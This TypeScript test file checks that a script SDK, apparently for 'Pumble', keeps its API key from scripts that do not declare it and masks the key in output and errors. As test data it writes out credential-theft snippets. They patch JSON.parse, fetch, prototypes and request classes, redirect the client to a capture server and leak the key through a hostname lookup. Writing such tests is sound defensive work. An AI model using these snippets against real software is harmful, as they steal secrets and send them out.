/** Who has the key: the client alone, unless the script declares it; and nobody who reads what the script says. */
import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import { afterAll, beforeAll, beforeEach, describe, expect, test } from "vitest";
import { adaUser } from "../client/fixtures";
import { apiKey, setUp } from "../client/set-up";
import { deno, workshop } from "./workshop";

const shop = workshop();
const bench = setUp();

const env = () => ({ HOME: process.env.HOME, PUMBLE_API_KEY: apiKey, PUMBLE_BASE_URL: bench.baseUrl });

/** What reached a server that the script may call, and that is not Pumble. */
const stolen: string[] = [];
let elsewhere: Server;
let host: string;
beforeAll(async () => {
  elsewhere = createServer((request, response) => {
    stolen.push(JSON.stringify([request.url, request.rawHeaders]));
    response.end("{}");
  });
  await new Promise<void>((resolve) => elsewhere.listen(0, "127.0.0.1", resolve));
  host = `127.0.0.1:${(elsewhere.address() as AddressInfo).port}`;
});
afterAll(() => elsewhere?.close());
beforeEach(() => {
  stolen.length = 0;
  bench.server.on("myInfo", { json: adaUser });
});

/** A script that does `first` while it is loaded, and then calls Pumble; it gives what it saw. */
const thief = (first: string): string => `
  ${first}
  import { defineScript } from "pumble-iac/script";
  declare const Deno: any;
  export default defineScript({
    permissions: { net: ["pumble", ${JSON.stringify(host)}] },
    async run({ pumble }) {
      await pumble.myInfo().catch(() => {});
      return (globalThis as any).seen ?? [];
    },
  });`;

const see = "const note = (value: unknown) => ((globalThis as any).seen ??= []).push(value);";

describe("a script that does not declare the key cannot get it on Deno", () => {
  const attempts: Record<string, string> = {
    "from standard input": `${see}
      const { parse } = JSON;
      JSON.parse = (text: string) => { note(text); return parse(text); };
      const { decode } = TextDecoder.prototype;
      TextDecoder.prototype.decode = function (...given: any[]) { const text = decode.apply(this, given); note(text); return text; };`,
    "through another fetch": `${see}
      const { fetch } = globalThis;
      (globalThis as any).fetch = (url: any, init: any) => { note({ ...init?.headers }); return fetch(url, init); };`,
    "through the methods of text, lists, objects and patterns": `${see}
      let inside = false;
      for (const [of, names] of [
        [String.prototype, ["trim", "replace", "replaceAll", "slice", "startsWith", "concat", "toString"]],
        [RegExp.prototype, ["test", "exec"]],
        [Array.prototype, ["push", "join", "map"]],
      ] as [any, string[]][]) for (const name of names) {
        const own = of[name];
        of[name] = function (...given: any[]) {
          if (!inside) { inside = true; for (const one of [this, ...given]) if (typeof one === "string") note(one); inside = false; }
          return own.apply(this, given);
        };
      }
      for (const name of ["entries", "assign", "keys", "fromEntries"]) {
        const own = (Object as any)[name];
        (Object as any)[name] = (...given: any[]) => { note(JSON.stringify(given)); return own(...given); };
      }`,
    "through an iterator that every object inherits": `${see}
      Object.defineProperty(Object.prototype, Symbol.iterator, {
        configurable: true,
        get() { note({ ...this }); return undefined; },
      });`,
    "through a setter that every object inherits": `${see}
      Object.defineProperty(Object.prototype, "ApiKey", { set(value) { note(value); }, get() { return undefined; } });`,
    "through the classes of a request": `${see}
      for (const name of ["Headers", "Request", "URL"]) {
        const Own = (globalThis as any)[name];
        (globalThis as any)[name] = class extends Own {
          constructor(...given: any[]) { super(...given); note(JSON.stringify(given)); }
        };
      }
      for (const name of ["set", "append"]) {
        const own = (Headers.prototype as any)[name];
        (Headers.prototype as any)[name] = function (...given: any[]) { note(given); return own.apply(this, given); };
      }`,
    "through a proxy of its own": `
      try {
        const client = Deno.createHttpClient({ proxy: { url: "http://${"HOST"}" } });
        Object.defineProperty(Object.prototype, "client", { value: client, configurable: true });
      } catch {
        // It may not while it is only loaded.
      }`,
    "by sending the client elsewhere": `
      const { replace } = String.prototype as any;
      (String.prototype as any).replace = function (...given: any[]) {
        return replace.apply(this, given).split(Deno.env.get("PUMBLE_BASE_URL")).join("http://${"HOST"}");
      };
      Deno.env.get = () => "http://${"HOST"}";`,
    "from the environment": `${see}
      try { note(Deno.env.get("PUMBLE_API_KEY")); } catch {}
      try { note((globalThis as any).process.env.PUMBLE_API_KEY); } catch {}`,
    "from its arguments": `${see} note(Deno.args); note(Deno.mainModule);`,
  };
  test.each(Object.entries(attempts))("%s", async (_, code) => {
    const { output } = await shop.run(thief(code.replaceAll("HOST", host)), { env: env(), deno });
    // In what is shown the key would be this.
    expect(JSON.stringify(output)).not.toContain("…");
    expect(JSON.stringify([output, shop.lines])).not.toContain(apiKey);
    expect(stolen.join()).not.toContain(apiKey);
  });

  test("before the SDK is there: the SDK comes first", async () => {
    const text = `
      const { parse } = JSON;
      JSON.parse = (text: string) => { (globalThis as any).seen = text; return parse(text); };
      declare const Deno: any;
      const { defineScript } = await import("pumble-iac/script");
      export default defineScript({ permissions: { net: "pumble" }, run: async ({ pumble }) =>
        [(await pumble.myInfo()).name, (globalThis as any).seen] });`;
    const { output } = await shop.run(text, { env: env(), deno });
    expect(output).toEqual(["Ada", expect.not.stringContaining("…")]);
  });
});

describe.each([
  ["Deno", deno],
  ["Node", null],
])("on %s", (_, program) => {
  const reader = (permissions: string): string => `
    import { defineScript } from "pumble-iac/script";
    declare const Deno: any, process: any;
    const key = () => (globalThis as any).Deno ? Deno.env.get("PUMBLE_API_KEY") : process.env.PUMBLE_API_KEY;
    export default defineScript({
      permissions: { ${permissions} },
      run: () => ({ length: key()?.length ?? 0, key: key() ?? null, ["a" + key()]: [key() + "!"] }),
    });`;

  test("a script that declares the key reads it, and its output does not tell it", async () => {
    const { output } = await shop.run(reader("key: true"), { env: env(), deno: program });
    expect(output).toEqual({ length: apiKey.length, key: "…", "a…": ["…!"] });
    expect(shop.lines.at(-1)).toMatch(/permissions key$/);
  });

  test("one that does not has none", async () => {
    const result = await shop
      .run(reader(""), { env: env(), deno: program })
      .catch((problem: unknown) => problem);
    if (program) {
      expect(result).toMatchObject({
        message: expect.stringContaining("may not read the environment variable PUMBLE_API_KEY"),
        nextStep: expect.stringContaining("permissions: { key: true }"),
      });
    } else expect(result).toMatchObject({ output: { length: 0, key: null } });
  });

  test("a refusal that names the key does not show it, in whatever case", async () => {
    const text = `
      import { defineScript } from "pumble-iac/script";
      declare const process: any;
      export default defineScript({
        permissions: { key: true },
        run: async () => { throw new Error(process.env.PUMBLE_API_KEY.toUpperCase() + " is wrong"); },
      });`;
    const problem = await shop.problem(text, { env: env(), deno: program });
    expect(problem.message).toContain("failed: … is wrong");
  });
});

test("an address that holds the key is denied without showing it", async () => {
  const text = `
    import { defineScript } from "pumble-iac/script";
    declare const Deno: any;
    export default defineScript({
      permissions: { key: true },
      run: () => fetch("http://" + Deno.env.get("PUMBLE_API_KEY").replaceAll("_", "-") + ".example.com"),
    });`;
  const key = apiKey.replaceAll("_", "-");
  const problem = await shop.problem(text, { env: { ...env(), PUMBLE_API_KEY: key } });
  expect(problem.message).toContain("may not connect to ….example.com");
  expect(`${problem.message}${problem.nextStep}`.toLowerCase()).not.toContain(key.toLowerCase());
});
